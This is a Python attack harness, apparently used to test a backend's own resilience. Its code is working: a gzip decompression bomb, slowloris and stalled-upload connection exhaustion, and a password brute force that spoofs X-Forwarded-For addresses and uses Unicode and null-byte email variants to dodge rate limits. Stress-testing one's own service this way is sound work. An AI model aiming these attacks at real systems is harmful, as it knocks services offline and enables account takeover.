"""One attacker, inside a container with an address of its own: attacker.py KIND HOST PORT SECONDS COUNT.

Standard library only, because it runs in the backend's image. Prints a JSON object: how its tries ended, by kind.
"""

import asyncio
import gzip
import io
import json
import sys
from collections import Counter

BOMB_BYTES = 1_800_000_000
LOGIN = "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


def bomb() -> bytes:
    """A gzip body of about 1.75 MB that inflates to 1.8 GB."""
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=9) as file:
        for _ in range(BOMB_BYTES // 1_000_000):
            file.write(bytes(1_000_000))
    return packed.getvalue()


class Attack:
    """What all kinds share. seconds: how long it lasts; count: connections, or tries in that time."""

    def __init__(self, host: str, port: int, seconds: float, count: int) -> None:
        self.host, self.port, self.seconds, self.count = host, port, seconds, count
        self.ended: Counter[str] = Counter()

    async def once(self, sent: bytes, *, hold: bool) -> None:
        """One connection that sends this; with `hold` it then waits to the end of the attack."""
        writer = None
        try:
            reader, writer = await asyncio.open_connection(self.host, self.port)
            writer.write(sent)
            await writer.drain()
            async with asyncio.timeout(self.seconds if hold else 10):
                answer = await reader.readline()
            self.ended[answer.split()[1].decode() if answer else "closed"] += 1
        except TimeoutError:
            self.ended["held" if hold else "no answer"] += 1
        except OSError as error:
            self.ended[type(error).__name__] += 1
        finally:
            if writer is not None:
                writer.transport.abort()

    async def bomb(self) -> None:
        """Compressed bodies to a route that reads one and to one that reads none."""
        body = bomb()
        print("ready", file=sys.stderr, flush=True)
        tasks = []
        for number in range(self.count):
            path = b"GET /health/live" if number % 2 else b"POST /api/v1/echo"
            head = path + b" HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
            tasks.append(asyncio.create_task(self.once(head + body, hold=False)))
            await asyncio.sleep(self.seconds / self.count)
        await asyncio.gather(*tasks)

    async def hold_all(self, sent: bytes, together: int = 100) -> None:
        """Opens ``together`` connections each 150 ms, so that it costs little on cores that everybody shares."""
        print("ready", file=sys.stderr, flush=True)
        tasks = []
        for number in range(self.count):
            tasks.append(asyncio.create_task(self.once(sent, hold=True)))
            if number % together == together - 1:
                await asyncio.sleep(0.15)
        await asyncio.gather(*tasks)

    async def slow(self) -> None:
        """Connections that never end their header."""
        await self.hold_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 6000)

    async def stalled(self) -> None:
        """Uploads of 2 MB that stop half way, 100 MB/s: what a gigabit link brings."""
        head = b"POST /api/v1/echo HTTP/1.1\r\nHost: x\r\nContent-Length: 2000000\r\n\r\n"
        await self.hold_all(head + bytes(1_000_000), together=15)

    async def login(self) -> None:
        """Wrong passwords for one account, each from another address (as a balancer would say it)."""
        print("ready", file=sys.stderr, flush=True)
        tasks = []
        for number in range(self.count):
            email = (
                "boss@mozi.example",
                "BOSS@mozi.example",
                "boss@mozi.example\\u0000",
                "bo\\u017f\\u017f@mozi.example",
            )
            body = f'{{"email": "{email[number % 4]}", "password": "wrong-{number}"}}'
            client = f"X-Forwarded-For: 198.51.{number // 250}.{number % 250}\r\n"
            sent = f"{LOGIN}{client}Content-Length: {len(body)}\r\n\r\n{body}".encode()
            tasks.append(asyncio.create_task(self.once(sent, hold=False)))
            await asyncio.sleep(self.seconds / self.count)
        await asyncio.gather(*tasks)


if __name__ == "__main__":
    kind, host, port, seconds, count = sys.argv[1:]
    attack = Attack(host, int(port), float(seconds), int(count))
    asyncio.run(getattr(attack, kind)())
    print(json.dumps(dict(attack.ended)))
